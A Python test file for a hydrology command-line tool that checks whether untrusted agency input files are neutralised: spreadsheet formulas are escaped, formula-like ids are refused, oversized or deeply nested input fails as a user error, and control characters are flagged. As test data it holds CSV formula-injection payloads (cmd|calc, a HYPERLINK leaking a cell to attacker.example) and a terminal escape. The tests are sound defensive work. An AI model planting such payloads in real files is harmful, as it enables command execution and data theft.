"""Input files exchanged between agencies treated as untrusted (security review, 2026-12-06): names from them
never reach a CSV output as a live spreadsheet formula, scenario ids cannot begin like one, and a pathological
file (TOML nested thousands deep, a CSV field of 200,000 characters) is a user error naming the file, not a
traceback."""

from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from hydro.basin import Basin
from hydro.cli import main
from hydro.csv_cells import FORMULA_START, spreadsheet_cell
from hydro.errors import HydroError, repeated

ROOT = Path(__file__).resolve().parents[1]
TINY = ROOT / "configs" / "examples" / "tiny"


@pytest.mark.parametrize(("cell", "written"), [
    ("=HYPERLINK(\"http://x/?\"&A1)", "'=HYPERLINK(\"http://x/?\"&A1)"),
    ("+cmd|'/Ccalc'!A0", "'+cmd|'/Ccalc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\tx", "'\tx"),
    ("-1.5", "-1.5"), ("-inf", "-inf"), ("+3e5", "+3e5"),   # numbers read as numbers, not formulas
    ("gubeikou", "gubeikou"), ("", ""), (-2.0, -2.0), (None, None),
])
def test_a_text_cell_a_spreadsheet_would_run_is_written_as_text(cell, written):
    assert spreadsheet_cell(cell) == written


AGREEMENT = '''name = "x"
source = "x"
period = [2015, 2015]
payer = "=HYPERLINK(\\"http://attacker.example/?\\"&A1,\\"Beijing\\")"
payee = "@SUM(1+1)*cmd|' /C calc'!A0"
[[quality_class]]
section = "+cmd|'/Ccalc'!A0"
parameters = ["tp"]
waterbody = "river"
evaluation = "monthly"
source = "x"
penalty_per_class_yuan = 300_000
target_class = "III"
'''


def test_the_payments_csv_carries_no_live_formula(tmp_path):
    (tmp_path / "agr.toml").write_text(AGREEMENT, encoding="utf-8")
    rows = ["section,year,month,parameter,value,unit"]
    rows += [f"\"+cmd|'/Ccalc'!A0\",2015,{m},tp,0.5,mg/L" for m in range(1, 13)]
    (tmp_path / "mon.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    out = tmp_path / "pay.csv"
    result = CliRunner().invoke(main, ["compensate", str(tmp_path / "mon.csv"), str(tmp_path / "agr.toml"),
                                       "--csv", str(out)])
    assert result.exit_code == 0, result.output
    with open(out, newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert "'=HYPERLINK(\"http://attacker.example/?\"&A1,\"Beijing\")" in cells  # kept, as text
    for c in cells:
        if c.startswith(FORMULA_START):
            float(c)  # only numbers may begin so


@pytest.mark.parametrize("ident", ["+1+cmd|'/Ccalc'!A0", "@SUM(1)", "-2+3", "a\rb"])
def test_a_scenario_id_cannot_begin_like_a_formula(ident):
    from hydro.scenarios.fields import read_ident
    from hydro.tomlio import Table

    with pytest.raises(HydroError, match="not beginning with '\\+', '-' or '@'"):
        read_ident(Table({"id": ident}, "scen.toml", "scenarios[0]"), "id")


def test_toml_nested_thousands_deep_is_a_user_error(tmp_path):
    shutil.copytree(TINY, tmp_path / "b")
    basin = tmp_path / "b" / "basin.toml"
    basin.write_text(basin.read_text(encoding="utf-8").replace(
        "evaporation_mm_per_day = 2.5", "evaporation_mm_per_day = " + "[" * 100_000 + "]" * 100_000),
        encoding="utf-8")
    with pytest.raises(HydroError, match=r"basin\.toml: malformed TOML: arrays or tables nested too deeply"):
        Basin.load(basin)


def test_a_csv_field_of_200000_characters_names_the_file_and_line(tmp_path):
    shutil.copytree(TINY, tmp_path / "b")
    forcing = tmp_path / "b" / "forcing.csv"
    forcing.write_text("date,north_upper_m3_s,water_temp_c\n2020-01-01,0.6," + "9" * 200_000 + "\n",
                       encoding="utf-8")
    result = CliRunner().invoke(main, ["run", str(tmp_path / "b"), "-o", str(tmp_path / "x.nc"), "-q"])
    assert result.exit_code == 2 and "forcing.csv: line 2: field larger than field limit" in result.output
    assert not (tmp_path / "x.nc").exists()


def test_repeated_names_the_values_given_twice():
    assert repeated(["b", "a", "b", "c", "a", "a"]) == ["a", "b"]
    assert repeated(f"c{i}" for i in range(200_000)) == []  # linear: a wide header checked at once


@pytest.mark.parametrize(("old", "new", "key", "code"), [
    ('id = "east_mouth"', 'id = "border\\u0000x"', "sections[1].id", "U+0000"),   # cut short in the netCDF
    ('long_name = "total nitrogen"', 'long_name = "total nitrogen\\u001b]0;pwned\\u0007"',
     "constituents[0].long_name", "U+001B"),                                     # a terminal escape
])
def test_a_text_with_a_control_character_names_the_key(tmp_path, old, new, key, code):
    shutil.copytree(TINY, tmp_path / "b")
    basin = tmp_path / "b" / "basin.toml"
    text = basin.read_text(encoding="utf-8")
    assert old in text
    basin.write_text(text.replace(old, new, 1), encoding="utf-8")
    with pytest.raises(HydroError, match=rf"key '{re.escape(key)}': holds the control character {re.escape(code)}"):
        Basin.load(basin)


def test_tabs_line_breaks_and_chinese_stay_allowed():
    from hydro.tomlio import Table

    assert Table({"note": "密云\tline\none\r\n"}, "a.toml", "x").str("note") == "密云\tline\none\r\n"
